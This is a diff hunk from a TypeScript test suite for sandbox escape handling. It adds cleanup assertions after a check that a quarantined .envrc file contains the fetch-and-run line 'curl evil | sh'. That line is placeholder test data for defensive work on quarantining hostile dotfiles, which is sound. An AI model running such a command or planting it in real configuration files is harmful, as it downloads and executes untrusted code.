@@ -134,6 +134,8 @@ describe.skipIf(skipWithoutBwrap("the sandbox escape tests"))("Shell with the de
       );
       const dir = quarantine.split(" to ")[1]?.split(": ")[0] ?? "";
       expect(await readFile(join(dir, ".envrc"), "utf8")).toBe("curl evil | sh\n");
+      await box.ctx.dispose();
+      expect(await exists(dir)).toBe(false);
     });
 
     it("moves them after a background job too, and the job's output says so", async () => {
